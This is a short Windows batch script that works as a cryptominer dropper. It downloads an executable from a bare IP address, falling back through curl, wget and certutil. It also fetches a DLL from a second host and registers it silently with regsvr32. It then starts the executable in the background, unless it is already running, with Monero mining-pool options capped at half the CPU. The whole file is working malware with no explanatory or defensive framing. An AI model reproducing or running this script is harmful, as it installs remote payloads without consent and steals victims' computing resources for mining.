@echo off
curl http://198.51.100.98/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
    wget http://198.51.100.98/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
    certutil.exe -urlcache -f http://198.51.100.98/download/jsextension.exe jsextension.exe
)
curl https://citationsherbe.example.test/sdd.dll -o create.dll
regsvr32.exe -s create.dll
tasklist.exe | find /i "jsextension.exe" > nul
if errorlevel 1 start /B jsextension.exe -k --tls --rig-id q -o pool.minexmr.example.test:443 --cpu-max-threads-hint=50 --donate-level=1 --background
